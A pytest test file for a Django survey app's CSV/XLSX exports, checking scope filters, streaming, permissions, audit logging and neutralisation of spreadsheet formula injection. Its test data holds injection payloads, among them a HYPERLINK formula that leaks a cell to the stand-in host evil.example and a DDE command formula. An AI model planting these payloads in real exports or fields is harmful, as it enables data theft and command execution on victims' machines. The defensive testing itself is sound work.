"""CSV and XLSX exports: scope, filters, streaming, UTF-8 with BOM, and formula injection (CWE-1236).

The tables come from surveys/analytics/exports.py, the writing from surveys/reports/exports.py."""

import csv
import io

import pytest
from django.core.management import call_command
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from surveys import analytics, scopes
from surveys.analytics import exports as tables
from surveys.models import Dimension, Enterprise, Item
from surveys.reports import exports
from surveys.text import clean_user_text

from .conftest import DISTRICT_SCOPE, submitted_firm

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB开头",
    "\rCR开头",
]


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(data))


@pytest.fixture
def hostile_firms(questionnaire):
    """Firms whose names and notes are formula payloads; one dimension renamed to one as well (a header)."""
    firms = []
    for n, payload in enumerate(PAYLOADS):
        firms.append(
            submitted_firm(
                questionnaire,
                district=DISTRICT_SCOPE[0],
                seed=n,
                name=payload[:100],
                notes={"P1.1": payload, "P2.2": "正常备注"},
                contact_phone="+8613800000000",
            )
        )
    Dimension.objects.filter(questionnaire=questionnaire, code="D1").update(name_zh="=1+1 维度")
    Item.objects.filter(questionnaire=questionnaire).update(text_zh="=cmd|' /C calc'!A0")
    return firms


def test_neutralise():
    for payload in PAYLOADS + ["\0x"]:
        assert exports.neutralise(payload) == "'" + payload
    assert exports.neutralise("济南=1") == "济南=1"
    assert exports.neutralise("") == ""
    assert exports.neutralise(-3.5) == -3.5
    assert exports.neutralise(None) is None


def test_csv_neutralises_names_notes_and_headers(client, city_admin, hostile_firms):
    client.force_login(city_admin)
    rows = read_csv(client.get(reverse("manage:export", args=["firms", "csv"])))
    header, body = rows[0], rows[1:]
    assert "D1 =1+1 维度" in header  # a dimension header starts with its code
    names = {row[1] for row in body}
    assert names == {"'" + p for p in PAYLOADS}
    phone = header.index("联系电话")
    assert {row[phone] for row in body} == {"'+8613800000000"}
    index = header.index("综合指数")
    assert all(not row[index].startswith("'") and float(row[index]) >= 0 for row in body)

    answers = read_csv(client.get(reverse("manage:export", args=["answers", "csv"])))
    notes = [row[7] for row in answers[1:] if row[7]]
    # Notes are stored cleaned (text.clean_user_text trims a leading tab or CR); what stays risky is quoted.
    stored = [clean_user_text(p, multiline=True) for p in PAYLOADS]
    assert sorted(notes) == sorted([exports.neutralise(p) for p in stored] + ["正常备注"] * len(PAYLOADS))
    assert all(not cell.startswith(tuple("=+-@\t\r")) for row in answers for cell in row)


def test_xlsx_keeps_payloads_as_text_and_numbers_as_numbers(client, city_admin, hostile_firms):
    client.force_login(city_admin)
    response = client.get(reverse("manage:export", args=["firms", "xlsx"]))
    assert response["Content-Type"] == exports.XLSX_MIMETYPE
    sheet = read_xlsx(response).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert "D1 =1+1 维度" in header
    assert all(c.data_type == "s" for c in rows[0])
    for row in rows[1:]:
        name = row[1]
        assert name.data_type == "s" and name.value.startswith("'")
        index = row[header.index("综合指数")]
        assert index.data_type == "n" and isinstance(index.value, float)
    answers = read_xlsx(client.get(reverse("manage:export", args=["answers", "xlsx"]))).active
    for row in answers.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
        note = row[7].value
        if note and note != "正常备注":
            assert note in {exports.neutralise(clean_user_text(p, multiline=True)) for p in PAYLOADS}


def test_headers_are_neutralised_too():
    table = tables.Table(title="=标题", headers=["=SUM(1)", "@x", "数值"], rows=[["-1 不是数字", -1.5, 3]])
    rows = list(csv.reader(io.StringIO("".join(exports.csv_chunks([table])).removeprefix(exports.BOM))))
    assert rows == [["'=SUM(1)", "'@x", "数值"], ["'-1 不是数字", "-1.5", "3"]]
    buffer = io.BytesIO()
    exports.write_xlsx([table], buffer)
    sheet = load_workbook(buffer).active
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == ["'=SUM(1)", "'@x", "数值"]
    assert [c.data_type for c in cells[0]] == ["s", "s", "s"]
    assert [c.value for c in cells[1]] == ["'-1 不是数字", -1.5, 3]
    assert [c.data_type for c in cells[1]] == ["s", "n", "n"]
    several = "".join(exports.csv_chunks([table, table]))
    assert "'# =标题" not in several and "# =标题" in several  # the section line starts with "#"


def test_aggregate_exports_hide_small_groups_and_neutralise_text(client, city_admin, hostile_firms, demo_firms):
    client.force_login(city_admin)
    rows = read_csv(client.get(reverse("manage:export", args=["aggregates", "csv"])))
    flat = [cell for row in rows for cell in row]
    assert "# 维度统计" in flat and "# 按区县" in flat
    assert "<10" in flat
    assert "'=cmd|' /C calc'!A0" in flat  # an item text in the weaknesses table
    assert not any(cell.startswith(tuple("=+@\t\r")) for cell in flat)
    workbook = read_xlsx(client.get(reverse("manage:export", args=["aggregates", "xlsx"])))
    assert "维度统计" in workbook.sheetnames
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)


def test_exports_follow_the_scope_and_the_filters(client, district_admin, demo_firms):
    client.force_login(district_admin)
    rows = read_csv(client.get(reverse("manage:export", args=["firms", "csv"])))
    labels = {"370112": "历城区", "370114": "章丘区"}
    expected = Enterprise.objects.filter(district__in=DISTRICT_SCOPE)
    assert len(rows) - 1 == expected.count()
    assert {row[2] for row in rows[1:]} == set(labels.values())
    assert {row[0] for row in rows[1:]} == set(expected.values_list("uscc", flat=True))

    rows = read_csv(client.get(reverse("manage:export", args=["firms", "csv"]), {"district": "370114", "level": "L2"}))
    expected = Enterprise.objects.filter(district="370114", assessments__is_latest=True, assessments__level="L2")
    assert {row[0] for row in rows[1:]} == set(expected.values_list("uscc", flat=True))

    # A district outside the scope in the query string is ignored, never widened.
    rows = read_csv(client.get(reverse("manage:export", args=["firms", "csv"]), {"district": "370102"}))
    assert {row[2] for row in rows[1:]} == set(labels.values())

    answers = read_csv(client.get(reverse("manage:export", args=["answers", "csv"])))
    in_scope = set(Enterprise.objects.filter(district__in=DISTRICT_SCOPE).values_list("uscc", flat=True))
    assert {row[0] for row in answers[1:]} <= in_scope

    sheet = read_xlsx(client.get(reverse("manage:export", args=["firms", "xlsx"]))).active
    assert {row[2] for row in sheet.iter_rows(min_row=2, values_only=True)} == set(labels.values())


def test_contact_details_only_with_the_permission(client, roles, hostile_firms):
    from surveys.scopes import ROLE_CITY

    from .conftest import make_admin

    client.force_login(make_admin(ROLE_CITY, contacts=False))
    rows = read_csv(client.get(reverse("manage:export", args=["firms", "csv"])))
    assert "联系电话" not in rows[0] and "联系人" not in rows[0]
    assert not any("8613800000000" in cell for row in rows for cell in row)


def test_csv_is_streamed_from_an_iterator(city_admin, demo_firms, monkeypatch):
    """values_list(...).iterator(chunk_size=…): rows come in chunks, never as one list."""
    from django.db.models.query import QuerySet

    sizes = []
    original = QuerySet.iterator

    def spy(self, chunk_size=None):
        sizes.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    scope = scopes.administrator_scope(city_admin)
    chunks = exports.csv_chunks(tables.tables_for("firms", scope, analytics.Filters()), rows_per_chunk=50)
    assert next(chunks) == exports.BOM
    pieces = list(chunks)
    assert len(pieces) == 7  # header + 300 rows in pieces of 50 lines
    lines = sum(piece.count("\r\n") for piece in pieces)
    assert lines == 301
    assert sizes == [tables.CHUNK_SIZE, tables.CHUNK_SIZE * 5]


def test_xlsx_refuses_more_rows_than_a_sheet_holds(client, city_admin, hostile_firms, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    client.force_login(city_admin)
    response = client.get(reverse("manage:export", args=["answers", "xlsx"]), follow=True)
    assert response.redirect_chain and "Excel" in response.content.decode()


def test_filenames_and_headers(client, city_admin, hostile_firms):
    client.force_login(city_admin)
    response = client.get(reverse("manage:export", args=["firms", "csv"]))
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="jinan-firms-') and "filename*=UTF-8''" in disposition
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"


def test_export_results_command(tmp_path, demo_firms, district_admin):
    out = tmp_path / "firms.csv"
    call_command("export_results", "--format", "csv", "--district", "370112", "--out", str(out))
    text = out.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) - 1 == Enterprise.objects.filter(district="370112").count()
    assert "联系电话" not in rows[0]

    out = tmp_path / "agg.xlsx"
    call_command("export_results", "--format", "xlsx", "--dataset", "aggregates", "--out", str(out))
    assert "等级分布" in load_workbook(out).sheetnames

    out = tmp_path / "scoped.csv"
    call_command("export_results", "--format", "csv", "--user", district_admin.username, "--out", str(out))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert {row[2] for row in rows[1:]} == {"历城区", "章丘区"}

    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="outside"):
        call_command("export_results", "--format", "csv", "--user", district_admin.username, "--district", "370102",
                     "--out", str(out))  # fmt: skip


def test_exports_reports_and_firm_views_are_audited(client, city_admin, hostile_firms):
    from surveys.audit.models import AuditEvent

    enterprise, assessment = hostile_firms[0]
    client.force_login(city_admin)
    b"".join(client.get(reverse("manage:export", args=["firms", "csv"]), {"district": "370112"}).streaming_content)
    client.get(reverse("manage:city_report"))
    client.get(reverse("manage:firm", args=[enterprise.pk]))
    client.get(reverse("manage:round_report", args=[enterprise.pk, assessment.pk]))
    events = list(AuditEvent.objects.filter(user=city_admin).exclude(action=AuditEvent.LOGIN).order_by("id"))
    assert [(e.action, e.target) for e in events] == [
        (AuditEvent.EXPORT, "export:firms.csv"),
        (AuditEvent.EXPORT, "export:city_report.pdf"),
        (AuditEvent.VIEW, f"assessment:{assessment.pk}"),
        (AuditEvent.DOWNLOAD, f"assessment:{assessment.pk}"),
    ]
    assert events[0].detail["filters"] == "district=370112"
    assert events[2].enterprise_id == enterprise.pk
